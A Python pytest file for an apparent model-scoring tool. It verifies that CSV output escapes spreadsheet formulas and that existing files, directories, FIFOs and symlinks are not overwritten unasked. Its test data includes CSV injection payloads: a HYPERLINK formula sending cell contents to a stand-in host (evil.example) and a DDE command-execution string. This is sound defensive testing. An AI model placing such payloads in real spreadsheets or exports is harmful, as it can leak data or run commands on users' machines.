"""Files of scores that would do harm: formulas in what spreadsheets open, and files that are written over unasked."""

import csv
import gzip
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from modelyard.embedded.postgres import Postgres
from modelyard.errors import BadInput
from modelyard.settings import Settings
from modelyard.steps.score import ScoreResult, score
from modelyard.steps.stores import connected
from modelyard.use_cases.loan_approval import USE_CASE as LOANS
from tests.services.made_models import LOAN_RECORD
from tests.services.test_registry import Registered

HEADER = ["id", *LOANS.contract().names]
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "--5",
    "-5 and more",
)
HARMLESS = ("-5", "+5", "-5.25", "-1e-3", "-5,25", "customer-7", "'=1", "a=b", "x@example.org")

Scoring = Callable[..., ScoreResult]


@pytest.fixture
def scoring(empty_postgres: Postgres, tracking_uri: str, tmp_path: Path) -> Iterator[Scoring]:
    """Scores a file of records with a model in production."""
    made = Registered(tracking_uri, tmp_path / "packages")
    made.promote(made.add())
    use_case = LOANS.model_copy(update={"name": made.name})
    settings = Settings(_env_file=None, modelyard_home=tmp_path / "home")
    urls = (empty_postgres.url("raw_data"), empty_postgres.url("clean_data"))
    with connected(settings, *urls, tracking_uri) as platform:

        def run(source: Path, target: object, **more: Any) -> ScoreResult:
            return score(use_case, platform, str(source), str(target), log=False, **{"tell": lambda _: None, **more})

        yield run
    made.retire()


def write(path: Path, keys: tuple[str, ...], **changes: object) -> Path:
    with path.open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(HEADER)
        for key in keys:
            record = {**LOAN_RECORD, "id": key, **changes}
            rows.writerow([int(value) if isinstance(value, bool) else value for value in map(record.get, HEADER)])
    return path


def column(text: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(text.splitlines(keepends=True))]


def test_a_text_that_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(scoring: Scoring, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    scoring(write(tmp_path / "in.csv", (*FORMULAS, *HARMLESS)), target)
    text = target.read_text(encoding="utf-8")
    assert column(text, "record_key") == [*(f"'{formula}" for formula in FORMULAS), *HARMLESS]
    assert all(0 <= float(cell) <= 1 for cell in column(text, "probability"))
    # What is wrong with a record begins with the column's name, whatever stands in the record.
    target.unlink()
    scoring(write(tmp_path / "in.csv", ("1",), loan_purpose="=1+1", age="=1+1"), target)
    assert not column(target.read_text(encoding="utf-8"), "problem")[0].startswith(("=", "'"))


def test_a_file_that_is_there_is_written_over_only_when_that_is_asked_for(scoring: Scoring, tmp_path: Path) -> None:
    source, target = write(tmp_path / "in.csv", ("1", "2")), tmp_path / "out.csv.gz"
    target.write_bytes(b"precious")
    with pytest.raises(BadInput, match=r"out.csv.gz is there already: --force writes over it"):
        scoring(source, target)
    assert target.read_bytes() == b"precious"
    assert not (tmp_path / "home" / "scores").exists()
    scoring(source, target, force=True)
    assert column(gzip.decompress(target.read_bytes()).decode(), "record_key") == ["1", "2"]
    assert sorted(file.name for file in tmp_path.iterdir() if "out" in file.name) == ["out.csv.gz"]


def test_a_file_that_came_while_records_were_scored_is_not_written_over(scoring: Scoring, tmp_path: Path) -> None:
    source, target = write(tmp_path / "in.csv", ("1", "2")), tmp_path / "out.csv"
    with pytest.raises(BadInput, match="is there already"):
        scoring(source, target, tell=lambda _: target.write_text("precious"))
    assert target.read_text() == "precious"
    target.unlink()
    assert scoring(source, target).resumed_at == 2
    assert column(target.read_text(), "record_key") == ["1", "2"]


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_what_is_no_file_is_never_written_over(scoring: Scoring, tmp_path: Path, make: Callable[[Path], None]) -> None:
    make(tmp_path / "out.csv")
    with pytest.raises(BadInput, match="is no file that can be written over"):
        scoring(write(tmp_path / "in.csv", ("1",)), tmp_path / "out.csv", force=True)


def test_a_link_in_place_of_the_file_is_replaced_and_not_followed(scoring: Scoring, tmp_path: Path) -> None:
    (tmp_path / "private").write_text("precious")
    (tmp_path / "out.csv").symlink_to(tmp_path / "private")
    scoring(write(tmp_path / "in.csv", ("1",)), tmp_path / "out.csv", force=True)
    assert (tmp_path / "private").read_text() == "precious"
    assert column((tmp_path / "out.csv").read_text(), "record_key") == ["1"]
